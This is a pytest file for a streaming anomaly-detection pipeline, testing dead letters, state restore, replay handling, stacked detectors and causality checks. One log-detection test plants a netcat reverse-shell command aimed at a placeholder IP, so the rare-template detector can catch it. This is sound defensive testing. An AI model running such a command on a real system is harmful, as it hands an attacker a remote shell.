"""The pipeline core without Kafka: accounting, detection, state round trips."""

from __future__ import annotations

import math
from typing import Any

import numpy as np
import orjson
import pytest

import stream.pipeline as pipeline_module
from detectors.stack_pool import StackPool
from stream.pipeline import MemoryStore, Pipeline, Record
from stream.settings import Settings


def readings(device: str, n: int, spike_at: int | None = None, seed: int = 0) -> list[Record]:
    rng = np.random.default_rng(seed)
    out = []
    x = 0.0
    for t in range(n):
        x = 0.8 * x + rng.normal(0, 1)
        for s, offset in (("a", 10.0), ("b", 50.0)):
            v = offset + x + rng.normal(0, 0.3) + (25.0 if (t == spike_at and s == "a") else 0.0)
            msg = {"device": device, "sensor": s, "ts": 1.7e9 + t, "value": v}
            out.append(Record("t", 0, len(out), device.encode(), orjson.dumps(msg)))
    return out


def test_every_record_is_processed_or_dead_lettered() -> None:
    p = Pipeline(Settings.load())
    recs = readings("d1", 300)
    recs.insert(100, Record("t", 0, 9999, b"d1", b"{broken"))
    recs.insert(
        200,
        Record(
            "t",
            0,
            9998,
            b"zz",
            orjson.dumps({"device": "d1", "sensor": "a", "ts": 1.7e9, "value": 1}),
        ),
    )
    result = p.process_sensors(recs)
    assert result.processed + len(result.dead_letters) == len(recs)
    assert sorted(d.reason for d in result.dead_letters) == ["invalid_json", "key_mismatch"]
    assert {d.offset for d in result.dead_letters} == {9999, 9998}


def test_spike_is_detected_with_a_deterministic_id() -> None:
    recs = readings("d1", 1500, spike_at=1200)
    a = Pipeline(Settings.load()).process_sensors(recs).anomalies
    b = Pipeline(Settings.load()).process_sensors(recs).anomalies
    hits = [x for x in a if x.event_ts == 1.7e9 + 1200 and x.sensor == "a"]
    assert hits, [(x.sensor, x.event_ts - 1.7e9) for x in a]
    assert hits[0].score >= hits[0].threshold and hits[0].kind == "sensor"
    assert [x.id for x in a] == [x.id for x in b]
    assert 0.0 <= hits[0].score <= 1.0


def test_state_restored_from_store_gives_identical_scores() -> None:
    """A worker that takes over from the store scores exactly as one that never stopped."""
    recs = readings("d1", 1500, spike_at=1300, seed=3)
    store = MemoryStore()
    first = Pipeline(Settings.load(), device_store=store)
    first.process_sensors(recs[:1000])
    first.flush()
    resumed = Pipeline(Settings.load(), device_store=store)  # a new process, same store
    tail_resumed = resumed.process_sensors(recs[1000:]).anomalies
    straight = Pipeline(Settings.load())
    straight.process_sensors(recs[:1000])
    tail_straight = straight.process_sensors(recs[1000:]).anomalies
    assert [(a.id, a.score) for a in tail_resumed] == [(a.id, a.score) for a in tail_straight]
    assert tail_resumed  # the spike is there


def test_a_sliced_flush_writes_each_key_as_of_its_start_or_later() -> None:
    """begin_flush freezes the keys changed so far; flush_some writes at least one a
    call; a key changed after the start is written again by the next flush."""
    store = MemoryStore()
    p = Pipeline(Settings.load(), device_store=store)
    for n, device in enumerate(("d1", "d2", "d3")):
        p.process_sensors(readings(device, 20, seed=n))
    assert p.begin_flush() == 3
    assert p.flush_some(until=0.0) == (1, 2)  # the time is up: one key, at least
    p.process_sensors(readings("d1", 30, seed=0)[-2:])  # d1 changes meanwhile
    assert p.flush_some() == (2, 0)
    assert {k for k in ("d1", "d2", "d3") if store.get(k) is not None} == {"d1", "d2", "d3"}
    assert p.flush() == 1  # d1, dirty again since the start
    assert orjson.loads(store.get("d1") or b"{}")["offsets"] == {"t:0": 59}


def test_corrupt_state_is_replaced_not_fatal() -> None:
    store = MemoryStore({"d1": b'{"v": 1, "device": "d1", "sensors": 3}'})
    p = Pipeline(Settings.load(), device_store=store)
    result = p.process_sensors(readings("d1", 10))
    assert result.processed == 20 and not result.dead_letters


def test_an_older_causal_state_restarts_only_the_causal_checks() -> None:
    """After an upgrade a device keeps its detector state; only Granger relearns."""
    store = MemoryStore()
    first = Pipeline(Settings.load(), device_store=store)
    first.process_sensors(readings("d1", 300))
    first.flush()
    state = orjson.loads(store["d1"])
    assert state["granger"] is not None
    state["granger"]["version"] = 1  # the format before the growing warm-up window
    store["d1"] = orjson.dumps(state)
    resumed = Pipeline(Settings.load(), device_store=store)
    result = resumed.process_sensors(readings("d1", 310)[600:])
    model = resumed.devices["d1"]
    assert result.processed == 20 and not result.dead_letters
    assert model.n_rows == state["rows"] + 10  # the detector's history is kept
    assert model.granger is not None and model.granger.n_samples == 10


def test_logs_rare_template_after_warmup() -> None:
    p = Pipeline(Settings.load(warmup=50))
    recs = []
    for i in range(2000):
        msg = {
            "host": "h",
            "user": "alice",
            "source": "shell",
            "ts": 1.7e9 + i,
            "message": f"ls -la /home/alice/{i % 7}",
        }
        recs.append(Record("logs", 0, i, b"alice", orjson.dumps(msg)))
    odd = {
        "host": "h",
        "user": "alice",
        "source": "shell",
        "ts": 1.7e9 + 2001,
        "message": "nc -e /bin/sh 203.0.113.9 4444",
    }
    recs.append(Record("logs", 0, 2001, b"alice", orjson.dumps(odd)))
    result = p.process_logs(recs)
    assert {a.details["lines"][0] for a in result.anomalies} == {odd["message"]}  # type: ignore[index]
    assert "rare_template" in {a.detector for a in result.anomalies}


def test_replayed_inputs_are_not_learned_twice() -> None:
    """After a restart, redelivered inputs already in the stored state are skipped."""
    recs = readings("d1", 600, spike_at=500, seed=5)
    store = MemoryStore()
    first = Pipeline(Settings.load(), device_store=store)
    assert first.process_sensors(recs).anomalies
    first.flush()
    rows_before = orjson.loads(store["d1"])["rows"]
    again = Pipeline(Settings.load(), device_store=store)  # restarted worker, same store
    tail = recs[300:]  # redelivered, nothing new
    result = again.process_sensors(tail)
    assert result.processed == len(tail) and not result.anomalies and not result.dead_letters
    again.flush()
    assert orjson.loads(store["d1"])["rows"] == rows_before


def test_an_input_read_again_is_dead_lettered_once() -> None:
    """A rejected input read again in the same process (after a rebalance or a commit
    repair, from the committed offset) is not dead-lettered twice; one dropped before it
    was processed and read later, behind newer rejects, still is."""
    p = Pipeline(Settings.load())
    bad = [Record("t", 0, off, b"d1", b"{broken") for off in (5, 9, 12)]
    assert [d.offset for d in p.process_sensors(bad[1:]).dead_letters] == [9, 12]
    again = p.process_sensors(bad)  # re-read from offset 5: only 5 is new
    assert [d.offset for d in again.dead_letters] == [5]
    assert again.processed == 2
    # another partition, or a partition this worker lost and got back, starts afresh
    assert len(p.process_sensors([Record("t", 1, 9, b"d1", b"{broken")]).dead_letters) == 1
    p.forget_inputs([("t", 0)])
    assert len(p.process_sensors(bad).dead_letters) == 3


def test_an_input_never_delivered_then_read_again_is_learned_not_skipped() -> None:
    """faust sometimes never delivers the first input after a seek; its commit repair
    reads it again once later inputs of the key have moved the key's offset past it.
    It must be learned then (late), while inputs processed here, or by an earlier
    owner whose state was loaded, are still skipped when read again."""

    def log(i: int) -> Record:
        msg = {"host": "h", "user": "alice", "source": "shell", "ts": 1.7e9 + i, "message": "ls"}
        return Record("logs", 0, i, b"alice", orjson.dumps(msg))

    store = MemoryStore()
    first = Pipeline(Settings.load(), log_store=store)
    first.process_logs([log(i) for i in range(10)])
    first.flush()
    assert first.log_sources["alice"].n_seen == 10
    # A restarted worker: offset 10 is never delivered, 11..14 are.
    second = Pipeline(Settings.load(), log_store=store)
    second.process_logs([log(i) for i in range(11, 15)])
    assert second.log_sources["alice"].n_seen == 14
    # The repair re-reads from the committed offset (8): 8 and 9 were learned by the first
    # worker, 11..14 here; only 10 is new.
    again = second.process_logs([log(i) for i in range(8, 15)])
    assert again.processed == 7
    assert second.log_sources["alice"].n_seen == 15
    assert second.log_sources["alice"].offsets["logs:0"] == 14  # not moved back
    # Read once more: nothing is new.
    second.process_logs([log(i) for i in range(8, 15)])
    assert second.log_sources["alice"].n_seen == 15
    # After a rebalance (state flushed, hot state dropped) the reloaded key skips it all.
    second.flush()
    second.forget()
    second.process_logs([log(i) for i in range(8, 15)])
    assert second.log_sources["alice"].n_seen == 15


def test_huge_values_and_huge_dead_letters() -> None:
    from stream.codecs import DEAD_LETTER_MAX_BYTES

    p = Pipeline(Settings.load(max_message_bytes=4 * DEAD_LETTER_MAX_BYTES))
    big = b'{"device": "d1", "pad": "' + b"x" * (2 * DEAD_LETTER_MAX_BYTES) + b'"'
    huge = orjson.dumps({"device": "d1", "sensor": "a", "ts": 1.7e9, "value": -1.7e308})
    result = p.process_sensors([Record("t", 0, 1, b"d1", big), Record("t", 0, 2, b"d1", huge)])
    reasons = {d.offset: d for d in result.dead_letters}
    assert reasons[1].truncated and reasons[1].value_size == len(big) and reasons[1].value_sha256
    assert reasons[2].reason == "out_of_range" and not reasons[2].truncated


def test_devices_scored_stacked_as_if_one_by_one(monkeypatch: pytest.MonkeyPatch) -> None:
    """Detectors run stacked across a batch's devices give each device its own result."""
    from stream.simulate.plant import Plant, PlantConfig

    run = Plant(PlantConfig(n_devices=8, seed=5)).simulate(900)
    recs = [
        Record("t", 0, i, r["device"].encode(), orjson.dumps(r))
        for i, r in enumerate(run.readings())
    ]

    def replay() -> tuple[list[tuple[str, float, float]], dict[str, bytes]]:
        p = Pipeline(Settings.load())
        found = []
        for i in range(0, len(recs), 400):
            found += [
                (a.id, a.score, a.threshold) for a in p.process_sensors(recs[i : i + 400]).anomalies
            ]
        states = {k: orjson.dumps(m.detector.snapshot()) for k, m in p.devices.items()}
        return found, states

    calls: list[int] = []
    real = StackPool.prequential

    def counting(pool: StackPool, *args: Any, **kwargs: Any) -> Any:
        calls.append(len(args[0]))
        return real(pool, *args, **kwargs)

    monkeypatch.setattr(StackPool, "prequential", counting)
    Pipeline(Settings.load()).process_sensors(recs[:400])
    # new devices too: the first row of each starts its detector, the rest is stacked
    assert calls == [8]
    calls.clear()
    stacked = replay()
    assert calls and max(calls) == 8  # the batches were in fact scored stacked
    monkeypatch.setattr(pipeline_module, "MIN_KEYS", 10**9)
    one_by_one = replay()
    assert stacked[0] and stacked[0] == one_by_one[0]
    assert stacked[1] == one_by_one[1]

    def failing(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("a bug in stacking")

    monkeypatch.setattr(pipeline_module, "MIN_KEYS", 4)
    monkeypatch.setattr(StackPool, "prequential", real)
    monkeypatch.setattr(StackPool, "_run", failing)  # fails after taking the devices in
    assert replay() == one_by_one  # a failed stack changes nothing: each device alone


def test_granger_checks_stacked_as_if_one_by_one(monkeypatch: pytest.MonkeyPatch) -> None:
    """The Granger checks of a batch's devices, run stacked, find what each device's
    own monitor finds; a failed stack fails its devices' inputs (dead letters, state
    reset) and the worker goes on."""
    import detectors.causality.stacked as stacked_module
    from stream.simulate.plant import Plant, PlantConfig

    plant = Plant(PlantConfig(n_devices=8, seed=21))
    n_ticks = 1500
    run = plant.simulate(n_ticks, plant.random_faults(16, n_ticks, duration=(100, 300)))
    recs = [
        Record("t", 0, i, r["device"].encode(), orjson.dumps(r))
        for i, r in enumerate(run.readings())
    ]
    s = Settings.load(warmup=100, causality={"params": {"lag": 2, "window": 120, "warmup": 300}})

    def replay() -> tuple[list[tuple[str, float]], dict[str, bytes]]:
        p = Pipeline(s)
        found = []
        for i in range(0, len(recs), 300):
            batch = p.process_sensors(recs[i : i + 300])
            found += [(a.id, a.score) for a in batch.anomalies if a.kind == "causality"]
        states = {k: orjson.dumps(m.granger.snapshot()) for k, m in p.devices.items() if m.granger}
        return found, states

    stacks: list[int] = []
    real_stack = stacked_module._Stack

    class CountingStack(real_stack):  # type: ignore[misc, valid-type]
        def run(self, rows: Any, found: Any) -> None:
            stacks.append(len(self.monitors))
            super().run(rows, found)

    monkeypatch.setattr(stacked_module, "_Stack", CountingStack)
    stacked = replay()
    assert stacks and max(stacks) == 8  # the checks did run stacked
    monkeypatch.setattr(stacked_module, "MIN_MONITORS", 10**9)
    one_by_one = replay()
    assert stacked[0] and stacked == one_by_one

    def failing(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("a bug in stacking")

    p = Pipeline(s)
    half = len(recs) // 2
    for i in range(0, half, 300):
        p.process_sensors(recs[i : i + 300])
    monkeypatch.setattr(pipeline_module, "update_stacked", failing)
    batch = p.process_sensors(recs[half : half + 300])
    assert batch.dead_letters and {d.reason for d in batch.dead_letters} == {"processing_error"}
    assert batch.processed + len(batch.dead_letters) == 300
    monkeypatch.undo()
    assert not p.process_sensors(recs[half + 300 : half + 600]).dead_letters


@pytest.mark.parametrize("policy", ["auto", "spot", "rate"])
def test_quiet_readings_decided_as_by_the_full_path(
    policy: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The shortcuts for a quiet reading (``Pipeline._counted_if_quiet``: counted,
    nothing more; and a channel's bar, ``Pipeline._quiet_bar``, its counts applied in
    bulk) give the same anomalies, incidents and state as judging every reading in
    full, while SPOT calibrates and after, with episodes opening and closing, and a
    key's alert rate scaled down by operator feedback."""
    from stream.simulate.faults import FaultSpec
    from stream.simulate.plant import Plant, PlantConfig

    plant = Plant(PlantConfig(n_devices=6, seed=8))
    n_ticks = 1600
    # and one fault while SPOT calibrates (ticks 100 to 300), judged on fixed thresholds
    early = FaultSpec("pump-003", ("flow",), "spike", 150, 153)
    run = plant.simulate(n_ticks, [early, *plant.random_faults(12, n_ticks, duration=(20, 120))])
    recs = [
        Record("t", 0, i, r["device"].encode(), orjson.dumps(r))
        for i, r in enumerate(run.readings())
    ]
    device = recs[0].key
    assert device is not None
    s = Settings.load(spot_init=200, thresholds=policy, causality={"enabled": False})
    quiet: list[bool] = []
    real = Pipeline._counted_if_quiet

    def counting(self: Pipeline, *args: Any) -> bool:
        quiet.append(real(self, *args))
        return quiet[-1]

    monkeypatch.setattr(Pipeline, "_counted_if_quiet", counting)
    in_bulk: list[int] = []
    real_bulk = Pipeline._count_quiet

    def counting_bulk(model: Any, channel: int, n: int) -> None:
        in_bulk.append(n)
        real_bulk(model, channel, n)

    monkeypatch.setattr(Pipeline, "_count_quiet", staticmethod(counting_bulk))

    def replay() -> tuple[list[tuple[str, str, float, str]], list[str], dict[str, bytes]]:
        p = Pipeline(s, clock=lambda: 1.8e9)
        found: list[tuple[str, str, float, str]] = []  # (key, severity, event time, event)
        incidents: list[str] = []
        for n, i in enumerate(range(0, len(recs), 700)):
            if n == 5:  # an operator calls this device's alerts false: rates scaled down
                verdict = {"key": device.decode(), "verdict": "false_positive"}
                p.process_feedback([Record("fb", 0, n, device, orjson.dumps(verdict))])
            batch = p.process_sensors(recs[i : i + 700])
            found += [(a.key, a.severity, a.event_ts, repr(a)) for a in batch.anomalies]
            incidents += [repr(x) for x in batch.incidents]
        states = {k: orjson.dumps(m.snapshot()) for k, m in p.devices.items()}
        return found, incidents, states

    shortcut = replay()
    assert sum(quiet) + sum(in_bulk) > 0.8 * len(recs)  # most readings took a shortcut
    if policy != "rate":
        assert sum(in_bulk) > 0.5 * len(recs)  # most of them under their channel's bar
    assert any(severity == "warning" for _, severity, _, _ in shortcut[0])
    if policy == "auto":  # the early fault, alerted on the fixed thresholds
        times = sorted(r["ts"] for r in run.readings() if r["device"] == "pump-003")
        early_times = set(times[150 * 4 : 160 * 4])
        assert any(k == "pump-003/flow" and ts in early_times for k, _, ts, _ in shortcut[0])
    monkeypatch.setattr(Pipeline, "_quiet_bar", lambda *args: -math.inf)
    one_by_one = replay()  # each quiet reading by _counted_if_quiet
    monkeypatch.setattr(Pipeline, "_counted_if_quiet", lambda *args: False)  # all in full
    full = replay()
    for got in (shortcut, one_by_one):
        assert got[0] == full[0]
        assert got[1] == full[1]
        assert got[2] == full[2]
